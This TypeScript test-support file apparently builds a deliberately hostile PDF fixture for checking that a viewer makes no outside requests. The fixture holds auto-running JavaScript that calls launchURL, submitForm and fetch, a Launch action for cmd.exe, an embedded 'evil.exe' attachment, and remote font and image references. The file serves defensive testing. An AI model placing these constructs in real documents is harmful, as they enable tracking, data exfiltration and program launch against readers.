/** An unsigned PDF that tries everything a viewer could be talked into: scripts, links, launching, forms, files, pictures from afar. */
import { type PdfObject, writeRevision } from '#test/support/documents/pdf-writer.ts';

/** @param address of a server that must not be asked for anything */
export function hostilePdf(address: string): Uint8Array<ArrayBuffer> {
  const objects = new Map([...frame(address), ...annotations(address), ...resources(address)]);
  return Uint8Array.from(writeRevision({ objects, catalog: 1, size: 18 }).bytes);
}

type Objects = readonly (readonly [number, PdfObject])[];

const stream = (dictionary: string, text = ''): PdfObject => ({ dictionary, stream: Buffer.from(text) });

function script(address: string): string {
  const code = `app.launchURL('${address}/script'); this.submitForm('${address}/form'); fetch('${address}/fetch');`;
  return `<< /S /JavaScript /JS (${code.replaceAll(/[()\\]/g, String.raw`\$&`)}) >>`;
}

/** Scripts on opening, on the page and by name; an XFA form; a base for every address. */
function frame(address: string): Objects {
  const js = script(address);
  return [
    [
      1,
      `<< /Type /Catalog /Pages 2 0 R /OpenAction ${js} /AA << /WC ${js} /DP ${js} >> ` +
        `/Names << /JavaScript << /Names [(a) ${js}] >> /EmbeddedFiles << /Names [(f) 9 0 R] >> >> ` +
        `/AcroForm << /Fields [7 0 R 8 0 R] /XFA 10 0 R >> /URI << /Base (${address}/base/) >> >>`,
    ],
    [2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'],
    [
      3,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ' +
        '/Resources << /Font << /F1 5 0 R /F2 12 0 R >> /XObject << /X1 11 0 R >> >> ' +
        `/AA << /O ${js} >> /Annots [6 0 R 7 0 R 8 0 R 13 0 R 14 0 R] >>`,
    ],
    [
      4,
      stream(
        '',
        `BT /F1 20 Tf 60 700 Td (HOSTILE ${address}/text) Tj /F2 20 Tf 0 -40 Td (FAR) Tj ET /X1 Do\n`,
      ),
    ],
    [10, stream('', `<xdp><template><field name="${address}/xfa"/></template></xdp>`)],
  ];
}

function annotations(address: string): Objects {
  const js = script(address);
  return [
    [
      6,
      `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Border [0 0 9] /A << /S /URI /URI (${address}/link) >> >>`,
    ],
    [
      7,
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (t) /V (v) /Rect [60 500 300 540] /AA << /F ${js} /K ${js} >> >>`,
    ],
    [
      8,
      '<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [60 400 300 440] ' +
        `/A << /S /SubmitForm /F << /FS /URL /F (${address}/submit) >> >> >>`,
    ],
    [13, '<< /Type /Annot /Subtype /Link /Rect [60 300 300 340] /A << /S /Launch /F (cmd.exe) >> >>'],
    [14, '<< /Type /Annot /Subtype /FileAttachment /Rect [60 200 90 230] /FS 9 0 R >>'],
  ];
}

/** A picture and a font that are said to be elsewhere, and a file inside. */
function resources(address: string): Objects {
  const remote = `/F << /FS /URL /F (${address}/far) >>`;
  const picture =
    '/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray';
  return [
    [5, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'],
    [9, '<< /Type /Filespec /F (evil.exe) /UF (evil.exe) /EF << /F 15 0 R >> >>'],
    [11, stream(`${picture} ${remote}`)],
    [12, '<< /Type /Font /Subtype /TrueType /BaseFont /Far /FontDescriptor 16 0 R >>'],
    [15, stream('/Type /EmbeddedFile', 'MZ')],
    [16, '<< /Type /FontDescriptor /FontName /Far /Flags 32 /FontFile2 17 0 R >>'],
    [17, stream(remote)],
  ];
}
